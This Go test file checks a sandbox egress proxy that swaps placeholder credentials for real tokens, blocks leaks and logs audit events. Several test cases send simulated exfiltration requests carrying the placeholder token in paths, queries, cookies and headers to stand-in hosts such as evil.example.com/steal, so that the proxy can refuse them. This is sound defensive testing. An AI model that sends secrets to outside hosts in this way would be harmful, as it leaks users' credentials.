package mitm

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptrace"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/IniZio/nexus/internal/testutil"
	"github.com/IniZio/nexus/pkg/audit"
	"github.com/IniZio/nexus/pkg/errdefs"
)

// echoAuth answers with the Authorization header the upstream received.
func echoAuth(hits *atomic.Int64) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Header().Set("X-Seen-Host", r.Host)
		fmt.Fprintf(w, "auth=%s", r.Header.Get("Authorization"))
	})
}

func get(t *testing.T, c *http.Client, url string, hdr map[string]string) (*http.Response, string) {
	t.Helper()
	req, err := http.NewRequest("GET", url, nil)
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, string(b)
}

func TestSwapOnBoundHost(t *testing.T) {
	var hits atomic.Int64
	h := newHarness(t, echoAuth(&hits))
	c := h.client(t, testSandbox, testToken)

	resp, body := get(t, c, "https://api.example.com/user?x=1", map[string]string{"Authorization": "Bearer " + placeholder})
	if resp.StatusCode != 200 || body != "auth=Bearer "+realToken {
		t.Fatalf("status %d body %q: the upstream must see the real token", resp.StatusCode, body)
	}
	if resp.Header.Get("X-Seen-Host") != "api.example.com" {
		t.Fatalf("upstream saw Host %q", resp.Header.Get("X-Seen-Host"))
	}
	ev := h.waitEvent(t, hostIs("api.example.com"))
	want := audit.Event{Sandbox: testSandbox, Layer: audit.LayerHTTP, Host: "api.example.com", Port: 443, Method: "GET",
		Path: "/user", Status: 200, Bytes: int64(len(body)), Decision: audit.Allow, Rule: RuleHostAllowed, Swapped: true}
	ev.Time = want.Time
	if ev != want {
		t.Fatalf("audit event\n got %+v\nwant %+v", ev, want)
	}

	// Without a placeholder nothing is swapped and the request passes untouched.
	_, body = get(t, c, "https://api.example.com/plain", map[string]string{"Authorization": "Bearer something-else"})
	if body != "auth=Bearer something-else" {
		t.Fatalf("non-placeholder auth changed: %q", body)
	}
	// Basic credentials with the placeholder as password (git over HTTPS) are swapped too.
	_, body = get(t, c, "https://api.example.com/repo.git/info/refs", map[string]string{"Authorization": basic("x-access-token", placeholder)})
	if body != "auth="+basic("x-access-token", realToken) {
		t.Fatalf("basic swap: %q", body)
	}
}

func TestKeepAlive(t *testing.T) {
	var hits atomic.Int64
	h := newHarness(t, echoAuth(&hits))
	c := h.client(t, testSandbox, testToken)
	reused := 0
	for i := 0; i < 5; i++ {
		req, _ := http.NewRequest("GET", "https://api.example.com/k", nil)
		req = req.WithContext(httptrace.WithClientTrace(req.Context(), &httptrace.ClientTrace{
			GotConn: func(info httptrace.GotConnInfo) {
				if info.Reused {
					reused++
				}
			},
		}))
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
	if reused != 4 {
		t.Fatalf("reused %d of 5 requests' connections, want 4 (keep-alive through the tunnel)", reused)
	}
}

func TestPlaceholderLeak(t *testing.T) {
	var hits atomic.Int64
	h := newHarness(t, echoAuth(&hits))
	c := h.client(t, testSandbox, testToken)

	cases := []struct {
		name string
		url  string
		hdr  map[string]string
	}{
		{"bearer to allowed unbound host", "https://other.example.com/", map[string]string{"Authorization": "Bearer " + placeholder}},
		{"custom header", "https://other.example.com/", map[string]string{"X-Api-Key": placeholder}},
		{"embedded in header", "https://other.example.com/", map[string]string{"Cookie": "a=b; t=" + placeholder + "; c=d"}},
		{"query", "https://other.example.com/x?token=" + placeholder, nil},
		{"path", "https://other.example.com/tok/" + placeholder, nil},
		{"basic password", "https://other.example.com/", map[string]string{"Authorization": basic("x", placeholder)}},
		{"upper case", "https://other.example.com/", map[string]string{"X-T": strings.ToUpper(placeholder)}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			before := hits.Load()
			resp, body := get(t, c, tc.url, tc.hdr)
			if resp.StatusCode != 403 {
				t.Fatalf("status %d body %q, want 403", resp.StatusCode, body)
			}
			if hits.Load() != before {
				t.Fatal("the request reached the upstream")
			}
			if !strings.Contains(resp.Header.Get(DenyHeader), "placeholder") || strings.Contains(body, placeholder) {
				t.Fatalf("deny header %q body %q", resp.Header.Get(DenyHeader), body)
			}
		})
	}
	ev := h.waitEvent(t, ruleIs(RulePlaceholderLeak))
	if ev.Decision != audit.Deny || ev.Host != "other.example.com" || ev.Status != 403 || ev.Swapped {
		t.Fatalf("leak event %+v", ev)
	}
	testutil.WaitFor(t, 5*time.Second, func() error {
		if n := len(h.events(ruleIs(RulePlaceholderLeak))); n != len(cases) {
			return fmt.Errorf("%d placeholder_leak events, want %d", n, len(cases))
		}
		return nil
	})
}

func TestNotAllowedHost(t *testing.T) {
	var hits atomic.Int64
	h := newHarness(t, echoAuth(&hits))
	c := h.client(t, testSandbox, testToken)
	resp, body := get(t, c, "https://evil.example.com/steal", nil)
	want := "nexus: refused: host evil.example.com is not in this sandbox's allowlist (add it with --allow-host evil.example.com or egress.allow in .nexus/config.yaml)"
	if resp.StatusCode != 403 || resp.Header.Get(DenyHeader) != want || body != want+"\n" {
		t.Fatalf("status %d header %q body %q", resp.StatusCode, resp.Header.Get(DenyHeader), body)
	}
	if hits.Load() != 0 {
		t.Fatal("a non-allowed host reached the upstream")
	}
	ev := h.waitEvent(t, hostIs("evil.example.com"))
	if ev.Decision != audit.Deny || ev.Rule != RuleHostNotAllowed || ev.Path != "/steal" || ev.Reason != want {
		t.Fatalf("event %+v", ev)
	}
}

func TestHostHeaderMismatch(t *testing.T) {
	var hits atomic.Int64
	h := newHarness(t, echoAuth(&hits))
	for _, host := range []string{"evil.example.com", "other.example.com", "api.example.com:8443"} {
		t.Run(host, func(t *testing.T) {
			conn, resp := h.rawTunnel(t, "api.example.com:443", basic(testSandbox, testToken))
			if resp.StatusCode != 200 {
				t.Fatalf("CONNECT status %d", resp.StatusCode)
			}
			tc := tls.Client(conn, &tls.Config{ServerName: "api.example.com", RootCAs: h.caPool(t)})
			fmt.Fprintf(tc, "GET / HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n", host, placeholder)
			r, err := http.ReadResponse(bufio.NewReader(tc), nil)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(r.Body)
			if r.StatusCode != 403 || !strings.Contains(r.Header.Get(DenyHeader), "does not match the TLS server name api.example.com") {
				t.Fatalf("status %d deny %q body %q", r.StatusCode, r.Header.Get(DenyHeader), b)
			}
		})
	}
	if hits.Load() != 0 {
		t.Fatal("a mismatched request reached the upstream")
	}
	h.waitEvent(t, ruleIs(RuleHostMismatch))
}

func TestSNIMismatch(t *testing.T) {
	var hits atomic.Int64
	h := newHarness(t, echoAuth(&hits))
	conn, resp := h.rawTunnel(t, "api.example.com:443", basic(testSandbox, testToken))
	if resp.StatusCode != 200 {
		t.Fatalf("CONNECT status %d", resp.StatusCode)
	}
	tc := tls.Client(conn, &tls.Config{ServerName: "evil.example.com", RootCAs: h.caPool(t)})
	if err := tc.Handshake(); err == nil {
		t.Fatal("TLS handshake with a server name other than the CONNECT host succeeded")
	}
	ev := h.waitEvent(t, ruleIs(RuleSNIMismatch))
	if ev.Layer != audit.LayerTLS || ev.Decision != audit.Deny || ev.Host != "api.example.com" {
		t.Fatalf("event %+v", ev)
	}
}

func TestBadIdentity(t *testing.T) {
	var hits atomic.Int64
	h := newHarness(t, echoAuth(&hits))
	for name, auth := range map[string]string{
		"none":          "",
		"wrong token":   basic(testSandbox, "nope"),
		"unknown id":    basic("proj/ghost", testToken),
		"not basic":     "Bearer " + testToken,
		"bad base64":    "Basic !!!",
		"empty token":   basic(testSandbox, ""),
		"token of peer": basic("proj/other", testToken),
	} {
		t.Run(name, func(t *testing.T) {
			_, resp := h.rawTunnel(t, "api.example.com:443", auth)
			if resp.StatusCode != http.StatusProxyAuthRequired {
				t.Fatalf("status %d, want 407", resp.StatusCode)
			}
		})
	}
	ev := h.waitEvent(t, ruleIs(RuleProxyAuth))
	if ev.Sandbox != UnknownSandbox || ev.Decision != audit.Deny || ev.Status != 407 {
		t.Fatalf("event %+v", ev)
	}
	// A client library surfaces it as a proxy error.
	c := h.client(t, testSandbox, "wrong")
	if _, err := c.Get("https://api.example.com/"); err == nil {
		t.Fatal("request with a bad identity succeeded")
	}
}

func TestResolveRefusedAndUpstreamDown(t *testing.T) {
	var hits atomic.Int64
	h := newHarness(t, echoAuth(&hits), func(c *proxyConfig) {
		c.ResolverOverrides = map[string]string{"*": "127.0.0.1:1"} // nothing listens
	})
	c := h.client(t, testSandbox, testToken)
	resp, body := get(t, c, "https://api.example.com/", nil)
	if resp.StatusCode != 502 || !strings.Contains(body, "did not answer (connection refused)") {
		t.Fatalf("status %d body %q", resp.StatusCode, body)
	}
	h.waitEvent(t, ruleIs(RuleUpstreamError))
}

func TestResolverRefusal(t *testing.T) {
	var hits atomic.Int64
	h := newHarness(t, echoAuth(&hits), func(c *proxyConfig) {
		c.Resolver = ResolverFunc(func(context.Context, string, string, string) (string, error) {
			return "", errdefs.Refused("not bound")
		})
	})
	c := h.client(t, testSandbox, testToken)
	resp, body := get(t, c, "https://api.example.com/", map[string]string{"Authorization": "Bearer " + placeholder})
	if resp.StatusCode != 403 || hits.Load() != 0 {
		t.Fatalf("status %d body %q hits %d", resp.StatusCode, body, hits.Load())
	}
	h.waitEvent(t, ruleIs(RuleCredRefused))
}

func TestNonConnectRefused(t *testing.T) {
	var hits atomic.Int64
	h := newHarness(t, echoAuth(&hits))
	resp, err := http.Get("http://" + h.addr + "/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Fatalf("status %d", resp.StatusCode)
	}
}

// TestNoSecretInLogsOrAudit runs every path that touches the token and the placeholder with
// logging at trace level and checks that neither appears in a log line or an audit event.
func TestNoSecretInLogsOrAudit(t *testing.T) {
	var hits atomic.Int64
	h := newHarness(t, echoAuth(&hits))
	c := h.client(t, testSandbox, testToken)
	get(t, c, "https://api.example.com/p/"+placeholder+"?q="+placeholder, map[string]string{"Authorization": "Bearer " + placeholder})
	get(t, c, "https://other.example.com/x?q="+placeholder, map[string]string{"Authorization": "Bearer " + placeholder})
	get(t, c, "https://evil.example.com/x?q="+placeholder, map[string]string{"Authorization": "Bearer " + placeholder})
	h.client(t, testSandbox, "wrong").Get("https://api.example.com/")
	testutil.WaitFor(t, 5*time.Second, func() error {
		if n := len(h.rec.all()); n < 4 {
			return fmt.Errorf("%d events", n)
		}
		return nil
	})
	h.proxy.Close()
	evs, _ := json.Marshal(h.rec.all())
	logs := h.logs.String()
	if !strings.Contains(string(evs), "[placeholder]") {
		t.Fatalf("the placeholder in the path was not redacted in the audit path: %s", evs)
	}
	for _, secret := range []string{realToken, placeholder, testToken} {
		if strings.Contains(logs, secret) {
			t.Errorf("logs contain a secret (%.6s…):\n%s", secret, logs)
		}
		if strings.Contains(string(evs), secret) {
			t.Errorf("audit events contain a secret (%.6s…):\n%s", secret, evs)
		}
	}
	if logs == "" {
		t.Fatal("no logs captured: the test would not notice a leak")
	}
}
